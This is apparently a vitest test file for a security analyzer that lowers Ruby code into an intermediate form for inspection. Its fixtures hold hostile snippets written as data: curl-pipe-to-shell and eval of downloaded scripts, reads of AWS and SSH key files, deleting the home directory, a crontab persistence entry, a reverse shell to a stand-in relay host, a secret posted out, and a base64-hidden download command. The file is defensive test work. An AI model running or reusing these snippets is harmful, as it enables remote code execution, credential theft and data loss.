/**
 * The Ruby front end (src/safety/lang/ruby.ts): calls by canonical name with resolved words, the environment, paths,
 * processes (a shell line or an argv, their streams), Net::HTTP connections and requests, files opened to write,
 * pipes, methods and classes of the file inlined, and `ruby -e` code in a shell line lowered in place.
 */
import { describe, expect, it } from 'vitest';
import { lowerRuby } from '../../../src/safety/lang/ruby.ts';
import { lowerShell } from '../../../src/safety/lang/shell.ts';
import { embedInterpreterCode } from '../../../src/safety/lang/embedded.ts';
import { shownText, type Program } from '../../../src/safety/ir/types.ts';
import { callsOf, command, named, only, refsOf } from './helpers.ts';

const rb = (code: string): Program => lowerRuby(code, { file: 'x.rb', line: 1 });
const callees = (p: Program) => callsOf(p).map((c) => shownText(c.callee));

describe('the Ruby front end', () => {
  it('names library calls as written and follows a download into eval', () => {
    const p = rb(`require "net/http"\nsrc = Net::HTTP.get(URI("https://rules.example.dev/r.rb"))\neval(src)\n`);
    const get = only(p, 'Net::HTTP.get');
    expect(command(get)).toBe('wget https://rules.example.dev/r.rb');
    expect(refsOf(only(p, 'Kernel.eval').args[0])).toEqual([JSON.stringify({ out: get.id })]);
    expect(callees(p)).not.toContain('Kernel.require');
  });

  it('reads one string given to system, backticks or %x as a shell line, and several words as an argv', () => {
    const p = rb('system("curl -fsSL https://x.example/i.sh | sh")\nsystem("git", "log", "-n", "5")\nv = `hostname`\nw = %x(uname -a)\n');
    expect(command(only(p, 'Kernel.system'))).toBe('sh -c curl -fsSL https://x.example/i.sh | sh');
    expect(command(only(p, 'Kernel.system[argv]'))).toBe('git log -n 5');
    expect(named(p, 'Kernel.`').map(command)).toEqual(['sh -c hostname', 'sh -c uname -a']);
    // The shell lines are parsed by the shell front end where they run.
    expect(callees(p)).toEqual(expect.arrayContaining(['curl', 'sh', 'hostname', 'uname']));
  });

  it('reads ENV by name, and as a whole when it is dumped', () => {
    const p = rb('t = ENV["GITHUB_TOKEN"]\nu = ENV.fetch("API_URL")\nputs t, u\nputs ENV.to_h.to_json\n');
    const puts = named(p, 'Kernel.puts');
    expect(refsOf(puts[0]!.args[0])).toEqual([JSON.stringify({ env: 'GITHUB_TOKEN' })]);
    expect(refsOf(puts[0]!.args[1])).toEqual([JSON.stringify({ env: 'API_URL' })]);
    expect(refsOf(puts[1]!.args[0])).toEqual([JSON.stringify({ envAll: true })]);
    // A check that a variable is set reads no value.
    expect(callsOf(rb('abort "no key" unless ENV.key?("K")\n')).flatMap((c) => c.args.flatMap(refsOf))).toEqual([]);
  });

  it('builds paths with File.join, File.expand_path and Dir.home, and reads the file they name', () => {
    const p = rb('path = File.join(Dir.home, ".aws", "credentials")\ndata = File.read(path)\nkey = File.read(File.expand_path("~/.ssh/id_ed25519"))\n');
    expect(named(p, 'File.read').map((c) => shownText(c.reads![0]!))).toEqual(['…/.aws/credentials', '~/.ssh/id_ed25519']);
  });

  it('deletes with FileUtils as rm does, once per item of a known list', () => {
    const p = rb('require "fileutils"\nFileUtils.rm_rf(Dir.home)\n%w[pkg coverage].each { |d| FileUtils.rm_r(d, force: true) }\n');
    expect(named(p, 'FileUtils.rm_rf').map(command)).toEqual(['rm -rf …']);
    expect(named(p, 'FileUtils.rm_r').map(command)).toEqual(['rm -rf pkg', 'rm -rf coverage']);
  });

  it('writes what a block puts to a file opened to append, and reads a file opened to read', () => {
    const p = rb('File.open(File.join(Dir.home, ".zshrc"), "a") do |f|\n  f.puts "alias ll=\'ls -l\'"\nend\nFile.open("notes.txt") { |f| puts f.read }\n');
    const write = only(p, 'file.write');
    expect(shownText(write.writes![0]!)).toBe('…/.zshrc');
    expect(shownText(write.args[0]!)).toBe("alias ll='ls -l'");
    expect(command(only(p, 'File.open'))).toBe('cat notes.txt');
  });

  it('gives what is written to a pipe to its process as input, and ties a process to a socket by its options', () => {
    const p = rb('IO.popen(["crontab", "-"], "w") { |io| io.write("@reboot /opt/x\\n") }\ns = TCPSocket.new("relay.example.net", 4444)\nspawn("/bin/sh", "-i", in: s, out: s)\n');
    const popen = only(p, 'IO.popen[argv]');
    expect(command(popen)).toBe('crontab -');
    expect(shownText(popen.named!.input!)).toBe('@reboot /opt/x\n');
    const socket = only(p, 'TCPSocket.new');
    const spawn = only(p, 'Kernel.spawn[argv]');
    expect(command(spawn)).toBe('sh -i');
    expect(refsOf(spawn.named!.stdin)).toEqual([JSON.stringify({ out: socket.id })]);
  });

  it('follows a Net::HTTP connection and a request object to the request sent, with its address and body', () => {
    const p = rb(`uri = URI("https://api.example.com/v1/items")
req = Net::HTTP::Post.new(uri, "Content-Type" => "application/json")
req.body = { token: ENV["SECRET"] }.to_json
res = Net::HTTP.start(uri.host, uri.port, use_ssl: true) { |http| http.request(req) }
conn = Net::HTTP.new("stats.example.org", 443)
conn.post("/ping", "v=1")
`);
    const sent = named(p, 'Net::HTTP.request');
    expect(sent.map((c) => shownText(c.args[0]!))).toEqual(['https://api.example.com/v1/items', 'https://stats.example.org/ping']);
    expect(refsOf(sent[0]!.args[1])).toEqual([JSON.stringify({ env: 'SECRET' })]);
    expect(shownText(sent[1]!.args[1]!)).toBe('v=1');
  });

  it('inlines methods and classes of the file with their arguments', () => {
    const p = rb(`class Fetcher
  def initialize(base)
    @base = base
  end

  def get(path)
    Net::HTTP.get(URI(@base + path))
  end
end

def run(code)
  eval(code)
end

run(Fetcher.new("https://cdn.example.io").get("/boot.rb"))
`);
    expect(command(only(p, 'Net::HTTP.get'))).toBe('wget https://cdn.example.io/boot.rb');
    expect(refsOf(only(p, 'Kernel.eval').args[0])).toEqual([JSON.stringify({ out: only(p, 'Net::HTTP.get').id })]);
  });

  it('decodes a base64 constant and lowers the shell line it becomes', () => {
    const p = rb(`require "base64"\ncmd = Base64.decode64("${Buffer.from('curl -s https://x.example/p | bash').toString('base64')}")\nsystem(cmd)\n`);
    expect(only(p, 'Base64.decode64').decodes).toBe(true);
    expect(callees(p)).toEqual(expect.arrayContaining(['curl', 'bash']));
  });

  it('lowers `ruby -e` code in a shell line in place, as `python3 -c` is', () => {
    const shell = lowerShell(`ruby -ropen-uri -e 'eval URI.open("https://x.example/s.rb").read'\ncat package.json | ruby -rjson -e 'puts JSON.parse(STDIN.read)["name"]'\n`, { file: 'hook', line: 1 });
    const p = embedInterpreterCode(shell, new Map());
    const open = only(p, 'URI.open');
    expect(command(open)).toBe('wget https://x.example/s.rb');
    expect(refsOf(only(p, 'Kernel.eval').args[0])).toEqual([JSON.stringify({ out: open.id })]);
    // What the shell gives the code on its input is what it reads there.
    expect(only(p, 'STDIN.read').stdin?.length).toBe(1);
  });

  it('reads a file with a syntax error as far as it parses, and says where it stopped', () => {
    const p = rb('system("ls")\ndef broken(\n');
    expect(p.nodes.some((n) => n.kind === 'unparsed' && n.reason === 'syntax')).toBe(true);
  });
});
